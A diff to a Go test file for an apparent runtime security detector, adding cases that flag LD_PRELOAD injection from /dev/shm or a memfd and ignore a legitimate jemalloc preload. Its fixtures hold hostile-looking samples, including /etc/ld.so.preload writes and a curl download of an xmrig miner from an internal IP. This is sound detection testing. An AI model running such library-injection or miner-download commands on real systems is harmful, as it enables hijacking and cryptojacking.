@@ -71,6 +71,9 @@ func replayCases() []replayCase {
 		{"ld-preload: write", []*api.Event{openEv(sh, "/etc/ld.so.preload", true, ctr)}, "ld-preload", nil},
 		{"ld-preload: failed write by non-root", []*api.Event{openFailWrite(sh, "/etc/ld.so.preload", -13, ctr)}, "ld-preload", nil},
 		{"ld-preload: LD_PRELOAD from tmp", []*api.Event{execEv(sh, []string{"sh", "-c", "LD_PRELOAD=/tmp/x.so ls"}, ctr)}, "ld-preload", nil},
+		{"ld-preload: LD_PRELOAD from /dev/shm in the environment", []*api.Event{ldPreloadExec("/usr/lib/libjemalloc.so.2:/dev/shm/.x.so", ctr)}, "ld-preload", nil},
+		{"ld-preload: LD_PRELOAD from a memfd in the environment", []*api.Event{ldPreloadExec("/proc/self/fd/3", ctr)}, "ld-preload", nil},
+		{"no ld-preload: jemalloc preloaded from /usr/lib", []*api.Event{ldPreloadExec("/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", ctr)}, "", []string{"ld-preload"}},
 		{"no ld-preload: loader read", []*api.Event{openLoader("/usr/bin/ls", "/etc/ld.so.preload")}, "", []string{"ld-preload"}},
 
 		{"miner-download", []*api.Event{execEv("/usr/bin/curl", []string{"curl", "-o", "/tmp/xmrig", "http://10.0.0.5/xmrig"}, ctr)}, "miner-download", nil},
@@ -274,5 +277,13 @@ func dnsEv(exe, name string, opts ...evOpt) *api.Event {
 func chmodEv(exe, path string, mode uint32, opts ...evOpt) *api.Event {
 	e := base(api.EventKind_EVENT_KIND_CHMOD, exe, []string{"chmod", "+x", path}, opts)
 	e.Detail = &api.Event_Chmod{Chmod: &api.Chmod{Path: path, Mode: mode}}
+	return e
+}
+
+// ldPreloadExec is an exec whose environment set LD_PRELOAD (not on its
+// command line).
+func ldPreloadExec(value string, opts ...evOpt) *api.Event {
+	e := execEv("/usr/bin/python3", []string{"python3", "app.py"}, opts...)
+	e.GetExec().LdPreload = value
 	return e
 }
